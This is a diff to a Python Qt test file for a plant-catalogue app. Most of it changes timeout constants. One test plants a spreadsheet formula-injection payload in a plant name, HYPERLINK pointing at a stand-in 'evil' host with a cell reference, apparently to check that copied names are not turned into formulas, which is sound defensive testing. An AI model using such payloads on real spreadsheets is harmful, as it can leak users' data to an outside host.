@@ -28,7 +28,7 @@ from plantdesk.ui.qt import override
 from plantdesk.ui.theme.colors import mixed
 from plantdesk.ui.theme.metrics import XS, FontRole, M
 from tests.support.costs import cpu_seconds
-from tests.support.desk import TIMEOUT
+from tests.support.waiting import MILLISECONDS, SECONDS
 
 if TYPE_CHECKING:
     from pathlib import Path
@@ -103,7 +103,7 @@ def test_the_list_stays_at_its_top_whatever_number_is_imported(
             files.read([file_source(file)])
             files.compare(OnConflict.REFUSE)
             files.apply(skip_invalid=False)
-    qtbot.waitUntil(lambda: table.model().rowCount() == 100 + count, timeout=TIMEOUT)
+    qtbot.waitUntil(lambda: table.model().rowCount() == 100 + count, timeout=MILLISECONDS)
     qtbot.waitUntil(lambda: visible_names(table)[:2] == [f"New {count}", f"New {count - 1}"])
     assert not table.verticalScrollBar().value()
     assert not pill(table).isVisible()
@@ -358,7 +358,7 @@ def test_no_copied_name_is_a_formula(
     qtbot: QtBot, browser: PlantBrowser, table: PlantTableView, store: Store, start: str
 ) -> None:
     name = f'{start}HYPERLINK("http://evil/?"&B2)'
-    store.add(new_plant({"id": -5, "name": name, "tag": "+1"}), FORM).result(10)
+    store.add(new_plant({"id": -5, "name": name, "tag": "+1"}), FORM).result(SECONDS)
     qtbot.waitUntil(lambda: table.model().rowCount() == 101)
     click_row(table, 0)
     with qtbot.waitSignal(browser.copied) as received:
